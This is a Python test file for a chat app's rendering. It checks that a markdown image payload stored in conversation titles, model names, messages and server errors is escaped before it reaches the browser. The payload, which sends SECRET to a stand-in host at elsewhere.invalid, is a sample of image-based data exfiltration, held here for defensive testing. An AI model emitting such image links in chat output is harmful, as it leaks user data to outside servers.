"""What the app sends the browser for hostile stored text: images as links, titles and errors as text."""

from __future__ import annotations

import json

from history.models import Conversation
from tests.apptest import send, shown
from tests.openai_server import Script

IMAGE = "![x](http://elsewhere.invalid/leak?d=SECRET)"


def test_a_hostile_conversation_reaches_the_browser_with_no_image_left(new_visit, openai_server, history_dir):
    stamp = "2030-01-01T00:00:00Z"
    hostile = Conversation(title=f"Title {IMAGE}", created_at=stamp, model=f"m`{IMAGE}`", messages=[
        {"role": "user", "content": f"Question {IMAGE}", "created_at": stamp},
        {"role": "assistant", "content": f"Answer {IMAGE}", "created_at": stamp,
         "alternatives": [{"role": "assistant", "content": f"Earlier {IMAGE}", "created_at": stamp}]},
    ])
    history_dir.mkdir(parents=True)
    (history_dir / f"{hostile.id}.json").write_text(json.dumps(hostile.to_dict()), encoding="utf-8")
    openai_server.enqueue(Script(status=400, message=f"Rejected {IMAGE}"))
    at = send(new_visit(), "Go on")
    assert shown(at.subheader[0].value) == f"Title {IMAGE}" and "!\\[x\\]" in at.subheader[0].value
    assert shown(at.sidebar.caption[0].value) == f"**Title {IMAGE}**"
    assert f"`` m`{IMAGE}` ``" in at.sidebar.caption[-1].value  # one code span, whatever it holds
    bodies = [m.markdown[0].value for m in at.chat_message]
    assert bodies[:2] == [f"Question \\{IMAGE}", f"Answer \\{IMAGE}"]
    assert f"Earlier \\{IMAGE}" in [m.value for m in at.chat_message[1].expander[0].markdown]
    # the server's text as written, but for the URL's query, which redaction removes as a possible key
    assert shown(at.error[0].value).endswith("Rejected ![x](http://elsewhere.invalid/leak")
    assert "!\\[x\\]" in at.error[0].value
